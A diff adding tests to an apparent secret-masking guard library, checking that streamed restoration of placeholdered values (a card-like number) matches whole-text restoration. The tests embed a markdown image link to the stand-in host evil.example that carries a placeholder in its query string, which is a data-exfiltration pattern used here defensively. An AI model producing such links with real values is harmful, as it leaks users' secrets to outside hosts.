@@ -7,8 +7,10 @@ import json
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from threegate.guard.addresses import UNREAD
 from threegate.guard.mask import EVERYWHERE, MaskMap
 from threegate.guard.restore import Restorer, TextRestorer
+from threegate.guard.stream_machine import CONTEXT
 from threegate.policy.model import Restoring
 from threegate.testing.attacks.exfiltration import exfiltration, filled
 from threegate.types import Channel
@@ -235,3 +237,26 @@ def test_addresses_do_not_depend_on_the_cut(text: str, cuts: set[int], channel: 
     places = [c for c in sorted(cuts) if c < len(text)]
     assert streamed(BACK, text, [*places, len(text)], channel) == whole
     assert streamed(BACK, text, [*range(1, len(text)), len(text)], channel) == whole
+
+
+@pytest.mark.parametrize("size", [1, 7, 300, 1000])
+def test_a_long_text_restores_alike_when_its_beginning_is_forgotten(size: int) -> None:
+    placeholder, restorer = made("6222021234567890128")
+    link = f"![x](http://evil.example/{'a' * 700}?q={placeholder})"
+    text = f"{'Words without a value. ' * 60}{link} and {placeholder} again, <b>{placeholder}</b> "
+    text += f"{'more words, ' * 60}{link}, {placeholder}."
+    out, done, base, back = "", 0, 0, TextRestorer(restorer, Channel.CONTENT)
+    for end in (*range(size, len(text), size), len(text)):
+        found, open_from = back.find(text[base:end], base, done, final=end == len(text))
+        for r in found:
+            out += text[done : r.span.start] + r.text
+            done = r.span.end
+        out += text[done:open_from]
+        done = max(done, open_from)
+        base = max(0, done - CONTEXT)
+    assert out == restored(restorer, text)
+    assert (out.count(placeholder), out.count("6222021234567890128")) == (2, 3)
+
+
+def test_what_is_unread_is_not_forgotten() -> None:
+    assert UNREAD < CONTEXT
